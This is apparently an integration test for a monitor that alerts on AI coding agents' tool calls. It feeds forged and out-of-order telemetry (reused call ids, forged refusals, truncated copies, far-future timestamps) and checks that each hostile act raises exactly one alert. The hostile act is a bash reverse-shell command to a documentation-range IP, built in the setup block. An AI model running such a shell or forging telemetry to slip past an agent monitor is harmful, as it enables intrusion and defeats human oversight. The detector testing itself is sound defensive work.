/** Forged and awkward input through the door that agents use: the act is alerted all the same, once. */
import { setTimeout as wait } from 'node:timers/promises';
import type { Message } from '../../cli/demo/tell';
import type { Alert } from '../../contracts/alert';
import { markOf } from '../support/acts';
import { eventually } from '../support/eventually';
import { createExporter } from '../support/exporter';
import { newDataFolder, startGander } from '../support/gander-process';
import type { GanderProcess } from '../support/gander-process';
import { claudeBash, codexResult, genaiSpan } from '../support/tool-calls';
import { SECRET, startWebhookReceiver } from '../support/webhook-receiver';
import type { WebhookReceiver } from '../support/webhook-receiver';

const YEAR_2100 = Date.UTC(2100, 0);
const json = (command: string) => JSON.stringify({ command });
const cmd = (command: string) => JSON.stringify({ cmd: command });

interface Case {
  title: string;
  /** Requests in the order of sending. `evil` opens a reverse shell to a port of the case's own. */
  tell: (call: { session: string; id: string }, evil: string) => Message[];
}

const CASES: readonly Case[] = [
  {
    title: 'a call id used again with other content',
    tell: (call, evil) => [
      codexResult(call, cmd('ls')),
      codexResult(call, cmd(evil)),
      codexResult(call, cmd('git status')),
    ],
  },
  {
    title: 'a benign forged record first, with an outcome',
    tell: (call, evil) => [
      claudeBash(call, 'tool_result', { command: 'ls', success: true }),
      claudeBash(call, 'tool_decision', { command: evil, decision: 'accept' }),
      claudeBash(call, 'tool_result', { command: evil, success: true }),
    ],
  },
  {
    title: 'a dozen benign forged records first',
    tell: (call, evil) => [
      ...Array.from({ length: 12 }, (_, index) => codexResult(call, cmd(`ls ${index}`))),
      codexResult(call, cmd(evil)),
    ],
  },
  {
    title: 'a forged refusal of the same call, before and after',
    tell: (call, evil) => [
      claudeBash(call, 'tool_decision', { decision: 'reject' }),
      claudeBash(call, 'tool_result', { command: evil, success: true }),
      claudeBash(call, 'tool_decision', { command: evil, decision: 'reject' }),
    ],
  },
  {
    title: 'a cut copy before the whole',
    tell: (call, evil) => [
      genaiSpan(call, { argumentsText: json(`sleep 1; ${evil}`).slice(0, 30) }),
      genaiSpan(call, { argumentsText: json(`sleep 1; ${evil}`) }),
    ],
  },
  {
    title: 'a cut copy that shows the act, before the whole',
    tell: (call, evil) => [
      genaiSpan(call, { argumentsText: json(`${evil}; sleep 100; echo done`).slice(0, -14) }),
      genaiSpan(call, { argumentsText: json(`${evil}; sleep 100; echo done`) }),
    ],
  },
  {
    title: 'a cut copy that shows the act, and no whole',
    tell: (call, evil) => [genaiSpan(call, { argumentsText: json(`${evil}; sleep 100; echo done`).slice(0, -14) })],
  },
  {
    title: 'an output that arrives later',
    tell: (call, evil) => [
      genaiSpan(call, { argumentsText: json(evil) }),
      genaiSpan(call, { result: JSON.stringify({ exit_code: 0, stdout: '' }) }),
    ],
  },
  {
    title: 'an output that arrives before the content',
    tell: (call, evil) => [
      genaiSpan(call, { result: JSON.stringify({ exit_code: 0, stdout: '' }) }),
      genaiSpan(call, { argumentsText: json(evil) }),
    ],
  },
  {
    title: 'a record dated 2100',
    tell: (call, evil) => [
      genaiSpan(call, { argumentsText: json(evil) }, YEAR_2100),
      genaiSpan({ ...call, id: 'next' }, { argumentsText: json('ls') }),
    ],
  },
  {
    title: 'a record dated 2100 before it in the session',
    tell: (call, evil) => [
      codexResult({ ...call, id: 'first' }, cmd('ls'), '', YEAR_2100),
      codexResult(call, cmd(evil)),
    ],
  },
  { title: 'a record without a clock', tell: (call, evil) => [genaiSpan(call, { argumentsText: json(evil) }, 0)] },
  {
    title: 'the same request three times',
    tell: (call, evil) => {
      const told = codexResult(call, cmd(evil));
      return [told, told, told];
    },
  },
];

const marks = CASES.map((_, index) => `203.0.113.7:${20_000 + index}`);
let hook: WebhookReceiver;
let gander: GanderProcess;
let alerts: Alert[];
const { folder, remove } = newDataFolder();

beforeAll(async () => {
  hook = await startWebhookReceiver();
  const webhooks = [{ name: 'ops', url: hook.url, secret: SECRET, minSeverity: 'medium' }];
  gander = await startGander({
    folder,
    config: { alerts: { webhooks }, engine: { latenessSeconds: 1, tickSeconds: 1 } },
  });
  const exporter = createExporter(() => gander.otlp);
  for (const [index, { tell }] of CASES.entries()) {
    const evil = `bash -i >& /dev/tcp/${marks[index]!.replace(':', '/')} 0>&1`;
    for (const message of tell({ session: `forged-${index}`, id: `call-${index}` }, evil)) await exporter.send(message);
  }
  // The cut copy without a whole waits longest.
  alerts = await eventually(
    'an alert for each act',
    async () => {
      await wait(100);
      const now = await gander.alerts();
      return new Set(now.map(markOf)).size >= CASES.length && now;
    },
    20_000,
  ).catch(() => gander.alerts());
}, 60_000);

afterAll(async () => {
  await gander.kill();
  await hook.close();
  remove();
});

test.each(CASES.map(({ title }, index) => ({ title, mark: marks[index]! })))('$title', async ({ mark }) => {
  const mine = alerts.filter((alert) => markOf(alert) === mark);
  expect(mine).toHaveLength(1);
  expect(Math.abs(mine[0]!.lastSeen - Date.now())).toBeLessThan(24 * 3_600_000 + 60_000);
  const created = () =>
    hook.received.filter(({ body }) => body.type === 'alert.created' && body.data.id === mine[0]?.id);
  await eventually('its message', () => created().length > 0);
  expect(created()).toHaveLength(1);
});

test('nothing else is alerted', () => {
  expect(alerts.map(markOf).sort()).toEqual([...marks].sort());
});
